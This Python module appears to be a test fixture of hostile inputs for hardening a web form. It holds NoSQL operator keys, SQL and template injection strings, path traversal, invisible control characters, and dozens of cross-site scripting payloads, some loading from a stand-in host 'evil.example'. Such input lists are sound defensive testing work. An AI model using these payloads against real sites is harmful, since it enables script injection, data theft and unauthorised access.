"""What nobody types by accident: names and values that a careless form passes on, markup that a careless page runs."""

# Names that no form of ours has: operators, paths into a document, other people's fields.
NAMES = (
    "$ne", "$gt", "$gte", "$lt", "$in", "$nin", "$regex", "$where", "$expr", "$or", "$and", "$not", "$set", "$unset",
    "$inc", "$push", "$rename", "$function", "$accumulator", "$jsonSchema", "$comment", "words[$ne]", "words[$gt]",
    "words[$where]", "revision[$ne]", "revision[$gt]", "words[]", "words[0]", "words[a][b]", "words.$ne",
    "words.$where", "a[$ne]", "a.b", "a.b.c", ".", "..", "a.", ".a", "sections.B.content", "plan.state",
    "content.items.0.slots.words.v", "_id", "_id.$oid", "id", "plan", "plan_id", "authority", "state", "sequence",
    "head", "hash", "person", "role", "grants", "scope", "owner", "audience", "number", "changed", "__proto__",
    "constructor.prototype", "__class__", "a\x00b", "\x00", " words", "words ", "WORDS", "wörds", "words\u202e",
    "a" * 3000, "",
)  # fmt: skip

# Values for a parameter that is a number, a hash, an id or one of a few keys.
VALUES = (
    "$ne", "$where", '{"$ne": null}', '{"$gt": ""}', '{"$where": "sleep(1000)"}', "[$ne]", "a[$ne]", "a.b", "true",
    "null", "None", "NaN", "Infinity", "-1", "1e3", "0x1", "1.0", "1,0", "٣x", "0;1", "1 OR 1=1", "' OR ''='",
    "../../etc/passwd", "%00", "\x00", "1\n2", "<script>alert(1)</script>", "{{7*7}}", "${7*7}", "x" * 5000,
    "9" * 30, "9" * 4400, "\u202e1", "一", "-0x", "++1", "",
)  # fmt: skip

# Characters that nobody types: control characters, the marks that reorder text unseen, halves of pairs.
UNTYPED = (
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1b", "\x1f", "\x7f", "\x80", "\x85", "\x9f",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff",
    "\ufff9", "\ufffa", "\ufffb",
)  # fmt: skip

# Each tells a page to run, load or draw something, in its own way.
MARKUP = (
    "<script>alert('x')</script>",
    "<script src=//evil.example/x.js></script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "'><img src=x onerror=alert(4)>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=alert(5)><circle/></svg>",
    "<svg><script>alert(6)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
    '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href='javascript:alert(9)'>here</a>",
    "<form action=//evil.example><button>Save</button></form>",
    "<input name=csrf_token value=x><select><option>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-post=/sign-out data-hx-trigger=load hx-on:click=alert(10)>",
    '" onfocus="alert(11)" autofocus="',
    "' onmouseover='alert(12)",
    "<!--><script>alert(13)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(14)>'>",
    "&lt;script&gt;alert(15)&lt;/script&gt;",
    "&#60;script&#62;alert(16)&#60;/script&#62;",
    "<ScRiPt>alert(17)</sCrIpT>",
    "<<script>script>alert(18)<</script>/script>",
    "{{ config }}{% import 'os' as os %}{{7*7}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "]]><script>alert(19)</script>",
    "\\u003cscript\\u003ealert(20)\\u003c/script\\u003e",
    "<video><source onerror=alert(21)></video>",
    "<details open ontoggle=alert(22)>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src=x onerror=alert(23)>'>",
    "<b>bold</b> <u>under</u>",
    "<body onload=alert(24)>",
    '=HYPERLINK("//evil.example")',
)
